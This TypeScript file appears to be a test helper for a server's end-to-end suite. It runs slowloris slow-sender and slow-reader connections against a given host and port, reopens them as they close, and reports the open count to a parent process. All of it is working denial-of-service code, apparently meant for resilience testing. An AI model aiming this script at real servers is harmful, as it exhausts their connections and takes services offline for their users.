/**
 * Slow senders (slowloris) and slow readers, as an attacker who has nothing but connections: so many of each, opened anew
 * when they are closed. A process of its own, so that what it does to itself is not taken for what it does to others.
 *
 * Started with host, port and count; tells its parent how many connections are open, now and then; ends with its parent.
 */
import process from "node:process";
import net from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Address } from "../../test/e2e/client.ts";

/** A byte of a head so often: no idle timeout ever rings. */
const dripEveryMs = 2_000;
/** And so much of an answer so often. */
const readEveryMs = 2_000;
const readBytes = 1_024;
/** More than socket buffers swallow, so that the answer really waits in the organism. */
const askedBytes = 64 * 1024 * 1024;
const reopenMs = 200;
/** A hundred slow senders and a hundred slow readers more in each second. */
const openEveryMs = 10;

const tellEveryMs = 250;

class Attack {
  readonly #at: Address;
  readonly #count: number;
  readonly #sockets = new Set<net.Socket>();

  constructor(at: Address, count: number) {
    this.#at = at;
    this.#count = count;
  }

  get openCount(): number {
    return this.#sockets.size;
  }

  /** All have been opened once. */
  isWhole = false;

  async open(): Promise<void> {
    for (let i = 0; i < this.#count; i += 1) {
      this.#slowSender(i);
      this.#slowReader(i);
      // Not all at once: to fill their buffers is 1.5 GB of ordinary traffic, and a flood is another attack than this.
      if (i % 10 === 9) await sleep(10 * openEveryMs);
    }
    this.isWhole = true;
  }

  #slowSender(i: number): void {
    const socket = this.#connect(i, () => this.#slowSender(i));
    socket.resume();
    socket.write("GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ");
    this.#every(socket, dripEveryMs, () => socket.write("x"));
  }

  #slowReader(i: number): void {
    const socket = this.#connect(i, () => this.#slowReader(i));
    socket.pause();
    socket.write(`GET /down?bytes=${askedBytes} HTTP/1.1\r\nHost: a\r\n\r\n`);
    this.#every(socket, readEveryMs, () => socket.read(readBytes));
  }

  #connect(i: number, again: () => void): net.Socket {
    const isLinux = process.platform === "linux";
    const localAddress = isLinux ? `127.0.1.${1 + (i % 100)}` : "127.0.0.1";
    const socket = net.connect({ ...this.#at, localAddress });
    this.#sockets.add(socket);
    socket.on("error", () => undefined);
    socket.on("close", () => {
      this.#sockets.delete(socket);
      setTimeout(again, reopenMs);
    });
    return socket;
  }

  #every(socket: net.Socket, ms: number, work: () => void): void {
    const timer = setInterval(work, ms);
    socket.once("close", () => clearInterval(timer));
  }
}

const [, , host = "", port = "", count = ""] = process.argv;
const attack = new Attack({ host, port: Number(port) }, Number(count));
process.on("disconnect", () => process.exit());
setInterval(() => process.send?.({ open: attack.openCount, isWhole: attack.isWhole }), tellEveryMs);
await attack.open();
